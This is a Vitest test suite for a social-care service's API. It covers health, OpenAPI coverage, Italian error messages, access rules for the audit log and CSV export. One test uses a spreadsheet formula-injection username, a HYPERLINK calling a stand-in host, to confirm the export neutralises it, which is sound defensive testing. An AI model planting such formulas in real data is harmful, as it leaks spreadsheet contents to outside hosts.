import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from './helpers.ts';

let ctx: TestContext;
beforeEach(async () => {
  ctx = await createTestContext();
});
afterEach(() => ctx.close());

describe('health', () => {
  it('reports the service and the database', async () => {
    const res = await ctx.app.inject({ method: 'GET', url: '/api/health' });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ status: 'ok', db: 'ok' });
  });
});

describe('the OpenAPI document', () => {
  it('describes every API route the app registers', async () => {
    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
      paths: Record<string, Record<string, unknown>>;
    };
    const documented = new Set(
      Object.entries(doc.paths).flatMap(([path, methods]) => Object.keys(methods).map((m) => `${m.toUpperCase()} ${path}`)),
    );
    const registered = ctx.app.apiRoutes.filter((route) => route.url !== '/api/openapi.json');
    expect(registered.length).toBeGreaterThan(25);
    for (const route of registered) {
      expect(documented, `${route.method} ${route.url}`).toContain(`${route.method} ${route.url.replace(/:(\w+)/g, '{$1}')}`);
    }
  });

  it('is browsable at /docs', async () => {
    const res = await ctx.app.inject({ method: 'GET', url: '/docs/' });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('swagger');
  });
});

describe('errors', () => {
  it('answers unknown paths, malformed JSON and oversize bodies with problem+json', async () => {
    const unknown = await ctx.app.inject({ method: 'GET', url: '/api/nothing-here' });
    expect(unknown.statusCode).toBe(404);
    expect(unknown.headers['content-type']).toContain('application/problem+json');
    const malformed = await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'application/json' },
      payload: '{"username":',
    });
    expect(malformed.statusCode).toBe(400);
    expect(malformed.json()).toMatchObject({ status: 400, type: 'about:blank' });
    const huge = await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'application/json' },
      payload: JSON.stringify({ username: 'x'.repeat(2_000_000), password: 'y' }),
    });
    expect(huge.statusCode).toBe(413);
    const wrongType = await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'text/xml' },
      payload: '<a/>',
    });
    expect(wrongType.statusCode).toBe(415);
  });

  it("answers the router's own refusals, before any hook runs, with problem+json in Italian", async () => {
    const badEscape = await ctx.app.inject({ method: 'GET', url: '/api/ptris/%E0%A4%A' });
    expect(badEscape.statusCode).toBe(400);
    expect(badEscape.headers['content-type']).toContain('application/problem+json');
    expect(badEscape.json()).toMatchObject({ status: 400, detail: "L'indirizzo contiene caratteri non validi" });
    const longParam = await ctx.app.inject({ method: 'PATCH', url: `/api/ptris/${'x'.repeat(101)}`, payload: {} });
    expect(longParam.statusCode).toBe(414);
    expect(longParam.headers['content-type']).toContain('application/problem+json');
    expect(longParam.json()).toMatchObject({
      status: 414,
      title: 'Indirizzo troppo lungo',
      detail: "Un parametro dell'indirizzo è troppo lungo",
    });
  });

  it('say in Italian what is wrong, field by field, including the checks of zod and Fastify themselves', async () => {
    const cm = await ctx.as('cm.navile');
    const json = { 'content-type': 'application/json' };
    const refusals = [
      await cm({ method: 'POST', url: '/api/persons', payload: { givenName: 1 } }),
      await cm({ method: 'GET', url: '/api/ptris?limit=99999&foo=1' }),
      await cm({ method: 'GET', url: '/api/ptris/abc' }),
      await cm({ method: 'POST', url: '/api/persons', headers: json, payload: '' }),
      await cm({ method: 'POST', url: '/api/persons', headers: json, payload: '{"a":' }),
      await cm({ method: 'POST', url: '/api/persons', headers: json, payload: JSON.stringify({ notes: 'x'.repeat(2_000_000) }) }),
      await cm({ method: 'POST', url: '/api/persons', headers: { 'content-type': 'text/xml' }, payload: '<a/>' }),
    ];
    expect(refusals.map((r) => r.statusCode)).toEqual([400, 400, 400, 400, 400, 413, 415]);
    const details = refusals.map((r) => r.json().detail as string);
    for (const detail of details)
      expect(detail).not.toMatch(/\b(Invalid|expected|received|Too big|Unrecognized|Body|Request|cannot|Unsupported)\b/);
    const person = refusals[0]!.json().errors as { path: string; message: string }[];
    expect(person).toContainEqual({ path: 'fiscalCode', message: 'campo obbligatorio' });
    expect(person.find((e) => e.path === 'givenName')?.message).toMatch(/^Input non valido/);
    expect(refusals[1]!.json().errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['limit', '(querystring)']));
    expect(details.slice(3)).toEqual([
      'Il corpo della richiesta è vuoto',
      'Il corpo della richiesta non è JSON valido',
      'Il corpo della richiesta supera la dimensione massima consentita',
      'Tipo di contenuto non supportato: inviare JSON (o CSV dove previsto)',
    ]);
  });
});

describe('the access log', () => {
  it('is readable by admin and manager, filtered, and reading it is itself logged', async () => {
    const admin = await ctx.as('admin');
    await (
      await ctx.as('cm.navile')
    )({ method: 'GET', url: '/api/persons' });
    const res = await admin({ method: 'GET', url: '/api/audit?entity=person_search' });
    expect(res.statusCode).toBe(200);
    expect(res.json().items).toEqual([expect.objectContaining({ username: 'cm.navile', action: 'read', entity: 'person_search' })]);
    // A period ending on the last day there is still has rows; one ending before it starts is refused.
    expect((await admin({ method: 'GET', url: '/api/audit?entity=person_search&to=9999-12-31' })).json().items).toHaveLength(1);
    const backwards = await admin({ method: 'GET', url: '/api/audit?from=2026-03-01&to=2026-02-01' });
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().errors).toEqual([{ path: 'to', message: 'la data finale precede quella iniziale' }]);
    const logged = (await admin({ method: 'GET', url: '/api/audit?entity=audit_log' })).json();
    expect(logged.items.length).toBeGreaterThanOrEqual(1);
    for (const user of ['cm.navile', 'uvm.bologna', 'coop.alfa']) {
      expect((await (await ctx.as(user))({ method: 'GET', url: '/api/audit' })).statusCode, user).toBe(403);
    }
    expect((await (await ctx.as('manager'))({ method: 'GET', url: '/api/audit?format=csv' })).statusCode).toBe(403);
    const csv = await admin({ method: 'GET', url: '/api/audit?format=csv' });
    expect(csv.headers['content-type']).toContain('text/csv');
    const [header, ...lines] = csv.body.split('\r\n');
    expect(header).toContain('quando;utente;azione;oggetto');
    // Actions and entities by their Italian names, as the page shows them.
    expect(lines.find((line) => line.includes(';cm.navile;'))).toContain(';Lettura;Ricerca di persone;');
  });

  it('exports every matching row in batches, newest first, and writes texts that look like formulas as text', async () => {
    const insert = ctx.db.$client.prepare(
      "INSERT INTO audit_log (at, username, action, entity, ip) VALUES (?, 'bulk', 'read', 'person_search', '10.0.0.1')",
    );
    ctx.db.$client.transaction(() => {
      for (let i = 0; i < 2_500; i++) insert.run(`2026-01-01T00:00:${String(i % 60).padStart(2, '0')}Z`);
    })();
    await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'application/json' },
      payload: { username: '=HYPERLINK("http://x.example/?"&A1)', password: 'nope' },
    });
    const admin = await ctx.as('admin');
    const csv = await admin({ method: 'GET', url: '/api/audit?format=csv' });
    expect(csv.statusCode).toBe(200);
    const lines = csv.body.split('\r\n').slice(1).filter(Boolean);
    const expected = ctx.db.$client
      .prepare('SELECT id FROM audit_log WHERE action != ? ORDER BY id DESC')
      .pluck()
      .all('export') as number[];
    const ids = lines.map((line) => Number(line.split(';')[0]));
    // Every row but the export's own, each once, newest first, across three batches of 1,000.
    expect(ids.length).toBeGreaterThan(2_500);
    expect(ids).toEqual(expected);
    const failed = lines.find((line) => line.includes('HYPERLINK'));
    expect(failed).toContain(`;"'=HYPERLINK(""http://x.example/?""&A1)";`);
  });
});
